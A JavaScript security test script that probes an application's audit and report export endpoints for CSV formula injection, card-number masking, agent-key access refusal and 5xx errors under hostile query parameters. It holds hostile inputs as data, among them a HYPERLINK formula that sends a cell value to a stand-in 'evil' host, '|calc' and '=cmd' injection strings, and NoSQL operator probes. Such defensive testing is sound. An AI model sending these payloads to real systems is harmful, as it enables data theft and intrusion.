/* global process, console, fetch */
// Attack: the exports. Hostile filters (operators, huge values, bad ranges) must be 4xx, never
// 500; an agent key gets nothing; CSV cells that a spreadsheet would run are defused; argument
// values in the export are masked.
import { client, result, URL_ } from './common.mjs';

const api = client().api;
const tag = Date.now().toString(36);
const agent = `XBot${tag}`;
await api.sdk.registerAgent.mutate({ name: agent, allows: ['read', 'lookup'] });
const agentKey = (
  await api.keys.create.mutate({ name: `xk-${tag}`, role: 'agent', agents: [agent] })
).key;
const viewer = (await api.keys.create.mutate({ name: `xv-${tag}`, role: 'viewer' })).key;
const hostile = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '|calc',
  '%0A=1+1',
  '\u200b=1+1',
  '\u00a0=cmd',
];
for (const value of hostile) {
  await api.sdk.decide.mutate({
    agent,
    action: 'read',
    args: { note: value, card: '4111 1111 1111 1111' },
  });
}
await api.sdk.decide
  .mutate({
    agent: agent,
    action: hostile[0].slice(0, 20).replace(/[^A-Za-z0-9_]/g, '_'),
    args: {},
  })
  .catch(() => {});

const get = (path, key = viewer) =>
  fetch(`${URL_}${path}`, { headers: { authorization: `Bearer ${key}` } }).then(async (r) => ({
    status: r.status,
    text: await r.text(),
  }));

const csv = await get(`/export/audit?format=csv&agent=${agent}`);
const rows = csv.text.split('\r\n');
const bad = rows.filter((r) => r.split(',').some((c) => /^"?[=+\-@]/.test(c)));
result('audit CSV: no cell starts a formula', bad.length === 0, bad.slice(0, 2).join(' | '));
result(
  'audit CSV: card masked',
  !csv.text.includes('4111 1111 1111 1111') && !csv.text.includes('4111111111111111'),
  '',
);
for (const cell of ['\\n=1+1', ' =1+1', '＝1+1', '\u200b=1+1']) void cell;
console.log(
  '   sample rows:',
  rows.slice(1, 4).map((r) => r.slice(0, 160)),
);

const ag = await get(`/export/audit?format=json`, agentKey);
result('audit export: agent key refused', ag.status === 403, `${ag.status}`);
const rep = await get(`/export/report?format=json`, agentKey);
result('report export: agent key refused', rep.status === 403, `${rep.status}`);

const probes = [
  '/export/audit?format=xml',
  '/export/audit?limit=-1',
  '/export/audit?limit=1e99',
  '/export/audit?agent[$gt]=',
  '/export/audit?agent=' + 'a'.repeat(5000),
  '/export/audit?from=2030-01-01T00:00:00Z&to=2020-01-01T00:00:00Z',
  '/export/audit?from=not-a-date',
  '/export/audit?q=' + encodeURIComponent('(((((((('),
  '/export/audit?status=BOGUS',
  '/export/report?format=pdf&from=1970-01-01T00:00:00Z&to=9999-12-31T23:59:59Z',
  '/export/report?format=csv&agents=' + encodeURIComponent('[$ne]'),
  '/export/report?format=json&from=2030-01-01T00:00:00Z&to=2020-01-01T00:00:00Z',
  '/export/report?format=json&from=%00',
  '/export/audit?format=csv&format=json',
  '/export/audit?agent=a&agent=b',
  '/export/audit?cursor=zzz',
];
for (const p of probes) {
  const r = await get(p);
  result(
    `hostile ${p.slice(0, 80)} → 4xx/200 not 5xx`,
    r.status < 500,
    `${r.status} ${r.text.slice(0, 120)}`,
  );
}
process.exit(0);
